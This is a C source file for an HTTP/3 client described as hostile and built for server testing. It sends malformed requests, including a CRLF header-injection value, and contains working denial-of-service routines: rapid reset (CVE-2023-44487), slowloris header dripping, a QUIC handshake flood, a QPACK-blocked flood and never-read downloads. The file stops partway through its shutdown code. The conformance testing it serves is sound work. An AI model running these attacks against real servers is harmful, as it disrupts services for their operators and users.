/* h3raw: a hostile HTTP/3 client for tests.  It speaks HTTP/3 through nghttp3 on
 * OpenSSL's QUIC client, but sends requests that real clients never send
 * (malformed fields, frames out of place) and reports what the server did with
 * each: the response status or the stream reset code, and whether the
 * connection survived.
 *
 *   h3raw HOST PORT CASE...      (CASE names below; each gets its own stream)
 *
 * Two abuse cases are not requests but attacks, each reported on its own line:
 *   qpack-blocked-flood  HEADERS that reference a QPACK entry never sent, then
 *                        DATA for 3 s: "case=... stream=ID sent=BYTES" (what the
 *                        server's flow control let through)
 *   rapid-reset          streams opened with HEADERS and reset at once, for up to
 *                        5 s or 20000 streams: "case=... stream=-1 opened=N"
 *   slow-headers         a request's HEADERS dripped one byte a second (the first
 *                        byte alone is not yet a frame), for up to H3RAW_SECONDS
 *                        (default 10): "case=... stream=ID reset=0x.. goaway=0|1
 *                        sent=BYTES"
 *   handshake-flood      (alone) H3RAW_CONNS (default 500) clients, each from its own
 *                        port, that send their Initial and never answer: the
 *                        handshakes stay in progress on the server, or meet a
 *                        Retry: "case=... stream=-1 clients=N"
 *   ctrl-max-push-id-decrease, ctrl-cancel-push
 *                        push frames on our control stream that RFC 9114 §7.2 makes
 *                        H3_ID_ERROR (MAX_PUSH_ID 5 then 2; CANCEL_PUSH of push 0,
 *                        never promised): "case=... stream=-1 sent"
 *   slow-readers         H3RAW_STREAMS (default 100) GETs of H3RAW_PATH (default
 *                        /big.bin) whose responses are never read, held for
 *                        H3RAW_SECONDS: "case=... stream=-1 opened=N"
 *
 * Output, one line per case then one for the connection:
 *   case=NAME stream=ID status=200 | reset=0x10e | none
 *   connection=open | connection=closed error=0x... app=1 reason="..."
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <nghttp3/nghttp3.h>
#include <openssl/err.h>
#include <openssl/quic.h>
#include <openssl/ssl.h>

#define MAX_CASES 64
#define MAX_STREAMS 128

struct rq {
    const char *name;
    size_t body_len; /* response body bytes */
    int echo_ok;     /* post-echo: the body came back unchanged */
    int64_t id;
    SSL *s;
    int status;
    uint64_t reset;
    int has_reset;
    int done;
    int raw;
};

struct st {
    int64_t id;
    SSL *s;
    int fin;
    int noread; /* slow-readers: never read */
};

static SSL *conn;
static nghttp3_conn *h3;
static int goaway; /* the server's GOAWAY arrived */
static struct rq reqs[MAX_CASES];
static int nreqs;
static struct st streams[MAX_STREAMS];
static int nstreams;
static char authority[300];

static void die(const char *what)
{
    fprintf(stderr, "h3raw: %s\n", what);
    ERR_print_errors_fp(stderr);
    exit(2);
}

static struct st *find_stream(int64_t id)
{
    for (int i = 0; i < nstreams; i++)
        if (streams[i].id == id)
            return &streams[i];
    return NULL;
}

static struct st *add_stream(SSL *s)
{
    if (nstreams == MAX_STREAMS)
        die("too many streams");
    streams[nstreams].s = s;
    streams[nstreams].id = (int64_t)SSL_get_stream_id(s);
    streams[nstreams].fin = 0;
    streams[nstreams].noread = 0;
    return &streams[nstreams++];
}

static struct rq *find_req(int64_t id)
{
    for (int i = 0; i < nreqs; i++)
        if (reqs[i].id == id)
            return &reqs[i];
    return NULL;
}

static int on_recv_header(nghttp3_conn *c, int64_t sid, int32_t token, nghttp3_rcbuf *name,
                          nghttp3_rcbuf *value, uint8_t flags, void *ud, void *sud)
{
    struct rq *r = find_req(sid);
    nghttp3_vec v = nghttp3_rcbuf_get_buf(value);
    (void)c, (void)name, (void)flags, (void)ud, (void)sud;
    if (r != NULL && token == NGHTTP3_QPACK_TOKEN__STATUS && v.len == 3)
        r->status = atoi((const char *)v.base);
    return 0;
}

#define ECHO_BODY "data through OpenSSL's QUIC client, echoed by the server"
static uint8_t echo_rx[256];

static int on_recv_data(nghttp3_conn *c, int64_t sid, const uint8_t *data, size_t len, void *ud,
                        void *sud)
{
    struct rq *r = find_req(sid);
    (void)c, (void)ud, (void)sud;
    if (r != NULL) {
        if (strcmp(r->name, "post-echo") == 0 && r->body_len + len <= sizeof(echo_rx))
            memcpy(echo_rx + r->body_len, data, len);
        r->body_len += len;
    }
    return 0;
}

static nghttp3_ssize echo_body(nghttp3_conn *c, int64_t sid, nghttp3_vec *vec, size_t veccnt,
                               uint32_t *pflags, void *ud, void *sud)
{
    (void)c, (void)sid, (void)veccnt, (void)ud, (void)sud;
    vec[0].base = (uint8_t *)ECHO_BODY;
    vec[0].len = sizeof(ECHO_BODY) - 1;
    *pflags |= NGHTTP3_DATA_FLAG_EOF;
    return 1;
}

static int on_end_stream(nghttp3_conn *c, int64_t sid, void *ud, void *sud)
{
    struct rq *r = find_req(sid);
    (void)c, (void)ud, (void)sud;
    if (r != NULL) {
        r->done = 1;
        if (strcmp(r->name, "post-echo") == 0)
            r->echo_ok = r->body_len == sizeof(ECHO_BODY) - 1 &&
                         memcmp(echo_rx, ECHO_BODY, r->body_len) == 0;
    }
    return 0;
}

static int on_shutdown(nghttp3_conn *c, int64_t id, void *ud)
{
    (void)c, (void)id, (void)ud;
    goaway = 1;
    return 0;
}

static int on_acked(nghttp3_conn *c, int64_t sid, uint64_t n, void *ud, void *sud)
{
    (void)c, (void)sid, (void)n, (void)ud, (void)sud;
    return 0;
}

/* ---- request cases ---- */

#define NV(n, v)                                                                                   \
    {                                                                                              \
        (uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, sizeof(v) - 1, NGHTTP3_NV_FLAG_NONE         \
    }

static int make_nva(const char *name, nghttp3_nv *nva, size_t *n)
{
    static char big[70000];
    size_t k = 0;
    nghttp3_nv m = NV(":method", "GET"), sc = NV(":scheme", "https"), p = NV(":path", "/hello.txt");
    nghttp3_nv a = {(uint8_t *)":authority", (uint8_t *)authority, 10, strlen(authority),
                    NGHTTP3_NV_FLAG_NONE};
    if (strcmp(name, "ok") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
    } else if (strcmp(name, "post-echo") == 0) {
        nva[k++] = (nghttp3_nv)NV(":method", "POST");
        nva[k++] = sc, nva[k++] = a;
        nva[k++] = (nghttp3_nv)NV(":path", "/echo");
    } else if (strcmp(name, "uppercase-name") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("X-Upper", "1");
    } else if (strcmp(name, "connection-header") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("connection", "keep-alive");
    } else if (strcmp(name, "transfer-encoding") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("transfer-encoding", "chunked");
    } else if (strcmp(name, "te-gzip") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("te", "gzip");
    } else if (strcmp(name, "missing-path") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a;
    } else if (strcmp(name, "missing-method") == 0) {
        nva[k++] = sc, nva[k++] = a, nva[k++] = p;
    } else if (strcmp(name, "duplicate-path") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p, nva[k++] = p;
    } else if (strcmp(name, "pseudo-after-regular") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a;
        nva[k++] = (nghttp3_nv)NV("accept", "*/*");
        nva[k++] = p;
    } else if (strcmp(name, "unknown-pseudo") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV(":foo", "bar");
    } else if (strcmp(name, "status-in-request") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV(":status", "200");
    } else if (strcmp(name, "authority-host-mismatch") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("host", "elsewhere.example");
    } else if (strcmp(name, "crlf-in-value") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("x-inject", "a\r\nx-evil: 1");
    } else if (strcmp(name, "space-in-path") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a;
        nva[k++] = (nghttp3_nv)NV(":path", "/a b");
    } else if (strcmp(name, "bad-content-length") == 0) {
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv)NV("content-length", "12abc");
    } else if (strcmp(name, "huge-header") == 0) {
        memset(big, 'a', sizeof(big) - 1);
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        nva[k++] = (nghttp3_nv){(uint8_t *)"x-big", (uint8_t *)big, 5, sizeof(big) - 1,
                                NGHTTP3_NV_FLAG_NONE};
    } else if (strcmp(name, "many-headers") == 0) {
        static char names[200][8];
        nva[k++] = m, nva[k++] = sc, nva[k++] = a, nva[k++] = p;
        for (int i = 0; i < 200; i++) {
            snprintf(names[i], sizeof(names[i]), "x-%d", i);
            nva[k++] = (nghttp3_nv){(uint8_t *)names[i], (uint8_t *)"1", strlen(names[i]), 1,
                                    NGHTTP3_NV_FLAG_NONE};
        }
    } else {
        return -1;
    }
    *n = k;
    return 0;
}

/* QPACK field line "literal field line with literal name" (RFC 9204 §4.5.6),
 * no Huffman: lets a case send names nghttp3's encoder would normalise. */
static size_t qpack_prefixed_int(uint8_t *out, uint8_t first, int bits, size_t v)
{
    size_t n = 0, max = (1u << bits) - 1;
    if (v < max) {
        out[n++] = (uint8_t)(first | v);
        return n;
    }
    out[n++] = (uint8_t)(first | max);
    v -= max;
    while (v >= 128) {
        out[n++] = (uint8_t)(0x80 | (v & 0x7f));
        v >>= 7;
    }
    out[n++] = (uint8_t)v;
    return n;
}

static size_t qpack_literal(uint8_t *out, const char *name, const char *value)
{
    size_t n = qpack_prefixed_int(out, 0x20, 3, strlen(name));
    memcpy(out + n, name, strlen(name));
    n += strlen(name);
    n += qpack_prefixed_int(out + n, 0x00, 7, strlen(value));
    memcpy(out + n, value, strlen(value));
    return n + strlen(value);
}

/* A HEADERS frame carrying the given fields, encoded by hand. */
static size_t headers_frame(uint8_t *out, const char *const *fields, size_t nfields)
{
    uint8_t payload[4096];
    size_t p = 0, n = 0;
    payload[p++] = 0; /* required insert count */
    payload[p++] = 0; /* delta base */
    for (size_t i = 0; i + 1 < nfields; i += 2)
        p += qpack_literal(payload + p, fields[i], fields[i + 1]);
    out[n++] = 0x01;                       /* HEADERS */
    out[n++] = (uint8_t)(0x40 | (p >> 8)); /* two-byte varint length */
    out[n++] = (uint8_t)(p & 0xff);
    memcpy(out + n, payload, p);
    return n + p;
}

/* Raw cases write HTTP/3 frames by hand on a fresh request stream. */
static int raw_case(const char *name, const uint8_t **bytes, size_t *len)
{
    static uint8_t frame[8192];
    /* DATA frame (type 0, length 1) before any HEADERS: H3_FRAME_UNEXPECTED. */
    static const uint8_t data_first[] = {0x00, 0x01, 'x'};
    /* HEADERS frame whose QPACK field section is garbage. */
    static const uint8_t bad_qpack[] = {0x01, 0x03, 0xff, 0xff, 0xff};
    /* SETTINGS frame on a request stream: H3_FRAME_UNEXPECTED. */
    static const uint8_t settings_on_request[] = {0x04, 0x00};
    /* A frame whose length runs past the end of the stream. */
    static const uint8_t truncated[] = {0x01, 0x40, 0x64, 0x00};
    if (strcmp(name, "raw-uppercase-name") == 0) {
        const char *f[] = {":method", "GET",   ":scheme",    "https",   ":authority",
                           authority, ":path", "/hello.txt", "X-Upper", "1"};
        *bytes = frame, *len = headers_frame(frame, f, 10);
    } else if (strcmp(name, "raw-ok") == 0) {
        const char *f[] = {":method",    "GET",     ":scheme", "https",
                           ":authority", authority, ":path",   "/hello.txt"};
        *bytes = frame, *len = headers_frame(frame, f, 8);
    } else if (strcmp(name, "raw-short-body") == 0) {
        /* content-length 10, 3 bytes of DATA, FIN: a malformed message, a
         * stream error (RFC 9114 §4.1.2). */
        const char *f[] = {":method", "POST",  ":scheme",    "https",          ":authority",
                           authority, ":path", "/hello.txt", "content-length", "10"};
        size_t n = headers_frame(frame, f, 10);
        memcpy(frame + n,
               "\x00\x03"
               "abc",
               5);
        *bytes = frame, *len = n + 5;
    } else if (strcmp(name, "raw-fin-only") == 0) {
        /* A request stream that ends before any HEADERS: H3_REQUEST_INCOMPLETE,
         * a stream error (RFC 9114 §4.1). */
        *bytes = frame, *len = 0;
    } else if (strcmp(name, "raw-data-before-headers") == 0)
        *bytes = data_first, *len = sizeof(data_first);
    else if (strcmp(name, "raw-bad-qpack") == 0)
        *bytes = bad_qpack, *len = sizeof(bad_qpack);
    else if (strcmp(name, "raw-settings-on-request") == 0)
        *bytes = settings_on_request, *len = sizeof(settings_on_request);
    else if (strcmp(name, "raw-truncated-frame") == 0)
        *bytes = truncated, *len = sizeof(truncated);
    else
        return -1;
    return 0;
}

static void write_h3(void)
{
    for (;;) {
        nghttp3_vec vec[16];
        int64_t sid = -1;
        int fin = 0;
        nghttp3_ssize n = nghttp3_conn_writev_stream(h3, &sid, &fin, vec, 16);
        if (n < 0)
            die("nghttp3 writev failed");
        if (sid < 0)
            break;
        struct st *s = find_stream(sid);
        size_t total = 0;
        for (nghttp3_ssize i = 0; i < n; i++) {
            size_t w = 0;
            uint64_t flags = (fin && i == n - 1) ? SSL_WRITE_FLAG_CONCLUDE : 0;
            if (vec[i].len == 0)
                continue;
            if (!SSL_write_ex2(s->s, vec[i].base, vec[i].len, flags, &w))
                break;
            total += w;
        }
        if (fin && n == 0)
            SSL_stream_conclude(s->s, 0);
        nghttp3_conn_add_write_offset(h3, sid, total);
        nghttp3_conn_add_ack_offset(h3, sid, total);
        ERR_clear_error();
    }
}

static void read_all(void)
{
    SSL *ns;
    uint8_t buf[65536];
    while ((ns = SSL_accept_stream(conn, SSL_ACCEPT_STREAM_NO_BLOCK)) != NULL)
        add_stream(ns);
    for (int i = 0; i < nstreams; i++) {
        struct st *s = &streams[i];
        struct rq *r = find_req(s->id);
        if (s->fin || s->noread || (SSL_get_stream_type(s->s) == SSL_STREAM_TYPE_WRITE))
            continue;
        for (;;) {
            size_t n = 0;
            if (SSL_read_ex(s->s, buf, sizeof(buf), &n)) {
                if (r == NULL || !r->raw)
                    nghttp3_conn_read_stream(h3, s->id, buf, n, 0);
                continue;
            }
            int e = SSL_get_error(s->s, 0);
            if (e == SSL_ERROR_ZERO_RETURN) {
                s->fin = 1;
                if (r == NULL || !r->raw)
                    nghttp3_conn_read_stream(h3, s->id, NULL, 0, 1);
                if (r != NULL) {
                    r->done = 1;
                    if (r->raw)
                        r->status = -1; /* answered; raw cases do not decode it */
                }
            } else if (e != SSL_ERROR_WANT_READ) {
                s->fin = 1;
                if (r != NULL && SSL_get_stream_read_state(s->s) == SSL_STREAM_STATE_RESET_REMOTE) {
                    SSL_get_stream_read_error_code(s->s, &r->reset);
                    r->has_reset = 1;
                    r->done = 1;
                }
            }
            ERR_clear_error();
            break;
        }
    }
}

static int conn_closed(void)
{
    SSL_CONN_CLOSE_INFO ci;
    return SSL_get_conn_close_info(conn, &ci, sizeof(ci)) == 1;
}

/* Lets OpenSSL's client run: sends, reads what the server says (and drops it). */
static void pump(int fd, int ms)
{
    struct pollfd pfd = {.fd = fd, .events = POLLIN};
    SSL_handle_events(conn);
    read_all();
    poll(&pfd, 1, ms);
    SSL_handle_events(conn);
}

static uint64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

/* HEADERS whose field section needs dynamic table entry 1 (Required Insert
 * Count 1, encoded as 2 with the server's 4096-byte table), which our encoder
 * never sends: the server must hold the stream, then everything after it. */
static void qpack_blocked_flood(struct rq *r, int fd)
{
    static const uint8_t blocked[] = {0x01, 0x03, 0x02, 0x00, 0x80};
    static uint8_t data[5 + 16384];
    uint64_t sent = 0, end = now_ms() + 3000;
    size_t w;
    /* DATA frame: type 0, length 16384 as a 4-byte varint. */
    data[0] = 0x00, data[1] = 0x80, data[2] = 0x00, data[3] = 0x40, data[4] = 0x00;
    if (!SSL_write_ex2(r->s, blocked, sizeof(blocked), 0, &w))
        die("cannot write HEADERS");
    while (now_ms() < end && !conn_closed()) {
        if (SSL_write_ex2(r->s, data, sizeof(data), 0, &w) && w > 0) {
            sent += w;
            continue;
        }
        ERR_clear_error();
        pump(fd, 5);
    }
    printf("case=%s stream=%lld sent=%llu\n", r->name, (long long)r->id, (unsigned long long)sent);
    r->done = 1;
    r->raw = 2; /* already reported */
}

/* HEADERS without FIN, then RESET_STREAM at once, as fast as stream credit
 * allows (CVE-2023-44487 for HTTP/3). */
static void rapid_reset(struct rq *r, int fd)
{
    const char *f[] = {":method",    "GET",     ":scheme", "https",
                       ":authority", authority, ":path",   "/hello.txt"};
    static uint8_t frame[512];
    size_t len = headers_frame(frame, f, 8), w;
    uint64_t opened = 0, end = now_ms() + 5000;
    while (now_ms() < end && opened < 20000 && !conn_closed()) {
        SSL *s = SSL_new_stream(conn, SSL_STREAM_FLAG_NO_BLOCK);
        if (s == NULL) {
            ERR_clear_error();
            pump(fd, 2);
            continue;
        }
        SSL_write_ex2(s, frame, len, 0, &w);
        SSL_STREAM_RESET_ARGS args = {.quic_error_code = 0x10c}; /* H3_REQUEST_CANCELLED */
        SSL_stream_reset(s, &args, sizeof(args));
        SSL_free(s);
        ERR_clear_error();
        if (++opened % 50 == 0)
            pump(fd, 0);
    }
    for (int i = 0; i < 40 && !conn_closed(); i++)
        pump(fd, 25);
    printf("case=%s stream=-1 opened=%llu\n", r->name, (unsigned long long)opened);
    r->done = 1;
    r->raw = 2;
}

static unsigned env_num(const char *name, unsigned dflt)
{
    const char *v = getenv(name);
    return v != NULL && *v != '\0' ? (unsigned)strtoul(v, NULL, 10) : dflt;
}

/* Slowloris: the field section never completes in time.  Ends when the
 * server resets the stream (or closes the connection), or after the time. */
static void slow_headers(struct rq *r, int fd)
{
    const char *f[] = {":method",    "GET",     ":scheme", "https",
                       ":authority", authority, ":path",   "/hello.txt"};
    static uint8_t frame[512];
    size_t len = headers_frame(frame, f, 8), sent = 0, w;
    uint64_t end = now_ms() + 1000 * (uint64_t)env_num("H3RAW_SECONDS", 10), next = 0;
    while (now_ms() < end && !conn_closed() && !r->has_reset && sent + 1 < len) {
        if (now_ms() >= next) {
            if (SSL_write_ex2(r->s, frame + sent, 1, 0, &w) && w == 1)
                sent++;
            next = now_ms() + 1000;
        }
        ERR_clear_error();
        pump(fd, 50);
    }
    for (int i = 0; i < 20 && !conn_closed() && !r->has_reset; i++)
        pump(fd, 25);
    printf("case=%s stream=%lld reset=0x%llx goaway=%d sent=%zu\n", r->name, (long long)r->id,
           r->has_reset ? (unsigned long long)r->reset : 0ULL, goaway, sent);
    r->done = 1;
    r->raw = 2;
}

/* Downloads the client never reads: the server may only buffer what its send
 * budgets allow. */
static void slow_readers(struct rq *r, int fd)
{
    const char *path = getenv("H3RAW_PATH") ? getenv("H3RAW_PATH") : "/big.bin";
    const char *f[] = {":method",    "GET",     ":scheme", "https",
                       ":authority", authority, ":path",   path};
    static uint8_t frame[512];
    size_t len = headers_frame(frame, f, 8), w;
    unsigned want = env_num("H3RAW_STREAMS", 100), opened = 0;
    uint64_t end = now_ms() + 1000 * (uint64_t)env_num("H3RAW_SECONDS", 10);
    while (now_ms() < end && !conn_closed()) {
        if (opened < want && nstreams < MAX_STREAMS) {
            SSL *s = SSL_new_stream(conn, SSL_STREAM_FLAG_NO_BLOCK);
            if (s != NULL) {
                SSL_write_ex2(s, frame, len, SSL_WRITE_FLAG_CONCLUDE, &w);
                add_stream(s)->noread = 1;
                opened++;
                continue;
            }
        }
        ERR_clear_error();
        pump(fd, 50);
    }
    printf("case=%s stream=-1 opened=%u\n", r->name, opened);
    r->done = 1;
    r->raw = 2;
}

/* Raw frames after nghttp3's SETTINGS on our control stream. */
static void ctrl_case(struct rq *r, SSL *ctrl, int fd)
{
    static const uint8_t decrease[] = {0x0d, 0x01, 0x05, 0x0d, 0x01, 0x02};
    static const uint8_t cancel[] = {0x03, 0x01, 0x00};
    int dec = strcmp(r->name, "ctrl-max-push-id-decrease") == 0;
    size_t w;
    write_h3();
    if (!SSL_write_ex2(ctrl, dec ? decrease : cancel, dec ? sizeof(decrease) : sizeof(cancel), 0,
                       &w))
        die("cannot write on the control stream");
    for (int i = 0; i < 80 && !conn_closed(); i++)
        pump(fd, 25);
    printf("case=%s stream=-1 sent\n", r->name);
    r->done = 1;
    r->raw = 2;
}

static int all_done(void)
{
    for (int i = 0; i < nreqs; i++)
        if (!reqs[i].done)
            return 0;
    return 1;
}

/* The server's unidirectional streams seen so far (control, QPACK). */
static int server_uni_count(void)
{
    int k = 0;
    for (int i = 0; i < nstreams; i++)
        k += (streams[i].id & 3) == 3;
    return k;
}

/* Clients that start a handshake and walk away: one Initial each (and any
 * Retry is left unanswered), as a flood from real addresses would. */
static int handshake_flood(const struct addrinfo *ai, SSL_CTX *ctx)
{
    static const unsigned char alpn[] = {2, 'h', '3'};
    unsigned want = env_num("H3RAW_CONNS", 500), done = 0;
    SSL **conns = calloc(want, sizeof(*conns));
    int *fds = calloc(want, sizeof(*fds));
    if (conns == NULL || fds == NULL)
        die("out of memory");
    for (unsigned i = 0; i < want; i++) {
        BIO_ADDR *peer = BIO_ADDR_new();
        fds[i] = socket(ai->ai_family, SOCK_DGRAM, 0);
        if (fds[i] < 0 || connect(fds[i], ai->ai_addr, ai->ai_addrlen) != 0)
            die("cannot connect UDP socket");
        conns[i] = SSL_new(ctx);
        /* Datagrams go out on the socket, and come in from an empty memory
         * BIO: a Retry is never seen, let alone answered, as for a spoofed
         * source (OpenSSL's client would otherwise answer one that arrives
         * while SSL_connect still runs). */
        BIO *rbio = BIO_new(BIO_s_dgram_mem()), *wbio = BIO_new_dgram(fds[i], BIO_NOCLOSE);
        if (rbio == NULL || wbio == NULL)
            die("cannot make BIOs");
        SSL_set_bio(conns[i], rbio, wbio);
        BIO_ADDR_rawmake(peer, AF_INET, &((const struct sockaddr_in *)ai->ai_addr)->sin_addr, 4,
                         ((const struct sockaddr_in *)ai->ai_addr)->sin_port);
        SSL_set1_initial_peer_addr(conns[i], peer);
        BIO_ADDR_free(peer);
        SSL_set_alpn_protos(conns[i], alpn, sizeof(alpn));
        SSL_set_tlsext_host_name(conns[i], "localhost");
        SSL_set_blocking_mode(conns[i], 0);
        if (SSL_connect(conns[i]) != 1) /* sends the Initial; never called again */
            done++;
        ERR_clear_error();
        shutdown(fds[i], SHUT_WR); /* and nothing more leaves */
    }
    printf("case=handshake-flood stream=-1 clients=%u\n", done);
    fflush(stdout);
    sleep(env_num("H3RAW_SECONDS", 3));
    for (unsigned i = 0; i < want; i++) {
        SSL_free(conns[i]);
        close(fds[i]);
    }
    free(conns);
    free(fds);
    return 0;
}

int main(int argc, char **argv)
{
    struct addrinfo hints = {.ai_socktype = SOCK_DGRAM}, *ai;
    BIO_ADDR *peer;
    int fd;
    SSL_CTX *ctx;
    nghttp3_callbacks cbs = {.recv_header = on_recv_header,
                             .end_stream = on_end_stream,
                             .acked_stream_data = on_acked,
                             .shutdown = on_shutdown,
                             .recv_data = on_recv_data};
    nghttp3_settings settings;
    static const unsigned char alpn[] = {2, 'h', '3'};

    if (argc < 4) {
        fprintf(stderr, "usage: h3raw HOST PORT CASE...\n");
        return 2;
    }
    snprintf(authority, sizeof(authority), "%s:%s", argv[1], argv[2]);
    if (getaddrinfo(argv[1], argv[2], &hints, &ai) != 0)
        die("cannot resolve");
    fd = socket(ai->ai_family, SOCK_DGRAM, 0);
    if (fd < 0 || connect(fd, ai->ai_addr, ai->ai_addrlen) != 0)
        die("cannot connect UDP socket");
    ctx = SSL_CTX_new(OSSL_QUIC_client_method());
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    if (strcmp(argv[3], "handshake-flood") == 0) {
        if (ai->ai_family != AF_INET)
            die("handshake-flood: IPv4 only");
        int rc = handshake_flood(ai, ctx);
        SSL_CTX_free(ctx);
        freeaddrinfo(ai);
        close(fd);
        return rc;
    }
    conn = SSL_new(ctx);
    SSL_set_fd(conn, fd);
    peer = BIO_ADDR_new();
    if (ai->ai_family == AF_INET)
        BIO_ADDR_rawmake(peer, AF_INET, &((struct sockaddr_in *)ai->ai_addr)->sin_addr, 4,
                         ((struct sockaddr_in *)ai->ai_addr)->sin_port);
    else
        BIO_ADDR_rawmake(peer, AF_INET6, &((struct sockaddr_in6 *)ai->ai_addr)->sin6_addr, 16,
                         ((struct sockaddr_in6 *)ai->ai_addr)->sin6_port);
    SSL_set1_initial_peer_addr(conn, peer);
    SSL_set_alpn_protos(conn, alpn, sizeof(alpn));
    SSL_set_tlsext_host_name(conn, "localhost");
    SSL_set_default_stream_mode(conn, SSL_DEFAULT_STREAM_MODE_NONE);
    if (SSL_connect(conn) != 1)
        die("handshake failed");
    SSL_set_incoming_stream_policy(conn, SSL_INCOMING_STREAM_POLICY_ACCEPT, 0);
    SSL_set_blocking_mode(conn, 0);

    nghttp3_settings_default(&settings);
    if (nghttp3_conn_client_new(&h3, &cbs, &settings, NULL, NULL) != 0)
        die("nghttp3");
    SSL *ctrl = SSL_new_stream(conn, SSL_STREAM_FLAG_UNI),
        *qe = SSL_new_stream(conn, SSL_STREAM_FLAG_UNI),
        *qd = SSL_new_stream(conn, SSL_STREAM_FLAG_UNI);
    if (ctrl == NULL || qe == NULL || qd == NULL)
        die("cannot open control streams");
    nghttp3_conn_bind_control_stream(h3, add_stream(ctrl)->id);
    nghttp3_conn_bind_qpack_streams(h3, add_stream(qe)->id, add_stream(qd)->id);

    for (int i = 3; i < argc && nreqs < MAX_CASES; i++) {
        struct rq *r = &reqs[nreqs++];
        nghttp3_nv nva[256];
        size_t n = 0;
        const uint8_t *raw;
        size_t rawlen;
        r->name = argv[i];
        r->id = -1;
        if (strcmp(r->name, "rapid-reset") == 0) {
            rapid_reset(r, fd);
            continue;
        }
        if (strcmp(r->name, "slow-readers") == 0) {
            slow_readers(r, fd);
            continue;
        }
        if (strncmp(r->name, "ctrl-", 5) == 0) {
            ctrl_case(r, ctrl, fd);
            continue;
        }
        r->s = SSL_new_stream(conn, SSL_STREAM_FLAG_NO_BLOCK);
        if (r->s == NULL) {
            /* The connection is gone (an earlier case killed it). */
            ERR_clear_error();
            r->done = 1;
            continue;
        }
        r->id = add_stream(r->s)->id;
        if (strcmp(r->name, "qpack-blocked-flood") == 0) {
            qpack_blocked_flood(r, fd);
            continue;
        }
        if (strcmp(r->name, "slow-headers") == 0) {
            slow_headers(r, fd);
            continue;
        }
        if (raw_case(r->name, &raw, &rawlen) == 0) {
            size_t w;
            r->raw = 1;
            SSL_write_ex2(r->s, raw, rawlen, SSL_WRITE_FLAG_CONCLUDE, &w);
        } else if (make_nva(r->name, nva, &n) == 0) {
            nghttp3_data_reader dr = {.read_data = echo_body};
            if (nghttp3_conn_submit_request(
                    h3, r->id, nva, n, strcmp(r->name, "post-echo") == 0 ? &dr : NULL, NULL) != 0)
                die("nghttp3 refused to submit the request");
        } else {
            fprintf(stderr, "h3raw: unknown case %s\n", r->name);
            return 2;
        }
        write_h3();
        /* One case at a time, so a connection error is pinned on its case. */
        for (int spins = 0; spins < 200 && !r->done; spins++) {
            struct pollfd pfd = {.fd = fd, .events = POLLIN};
            SSL_CONN_CLOSE_INFO ci;
            write_h3();
            SSL_handle_events(conn);
            read_all();
            if (SSL_get_conn_close_info(conn, &ci, sizeof(ci)) == 1)
                break;
            poll(&pfd, 1, 25);
        }
    }
    /* A response can overtake the packets that open the server's own streams:
     * wait for those too (a second at most), unless the connection is over. */
    for (int spins = 0; spins < 40 && (!all_done() || server_uni_count() < 3); spins++) {
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
        SSL_CONN_CLOSE_INFO ci;
        SSL_handle_events(conn);
        read_all();
        if (SSL_get_conn_close_info(conn, &ci, sizeof(ci)) == 1)
            break;
        poll(&pfd, 1, 25);
    }
    for (int i = 0; i < nreqs; i++) {
        if (reqs[i].raw == 2)
            continue;
        printf("case=%s stream=%lld ", reqs[i].name, (long long)reqs[i].id);
        if (reqs[i].has_reset)
            printf("reset=0x%llx\n", (unsigned long long)reqs[i].reset);
        else if (reqs[i].status == -1)
            printf("answered\n");
        else if (reqs[i].status && strcmp(reqs[i].name, "post-echo") == 0)
            printf("status=%d echo=%s\n", reqs[i].status, reqs[i].echo_ok ? "ok" : "mismatch");
        else if (reqs[i].status)
            printf("status=%d\n", reqs[i].status);
        else
            printf("none\n");
    }
    /* The server's own unidirectional streams (control, QPACK encoder/decoder). */
    printf("server_uni_streams=");
    for (int i = 0, first = 1; i < nstreams; i++) {
        if ((streams[i].id & 3) == 3) {
            printf("%s%lld", first ? "" : ",", (long long)streams[i].id);
            first = 0;
        }
    }
    printf("\n");
    SSL_CONN_CLOSE_INFO ci;
    if (SSL_get_conn_close_info(conn, &ci, sizeof(ci)) == 1)
        printf("connection=closed error=0x%llx app=%d reason=\"%.*s\"\n",
               (unsigned long long)ci.error_code, !(ci.flags & SSL_CONN_CLOSE_FLAG_TRANSPORT),
               (int)ci.reason_len, ci.reason ? ci.reason : "");
    else
        printf("connection=open\n");
    fflush(stdout);
    /* Leave like a real client: CONNECTION_CLOSE with H3_NO_ERROR. */
    SSL_SHUTDOWN_EX_ARGS args = {.quic_error_code = 0x100};
    for (int spins = 0; spins < 40; spins++) {
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
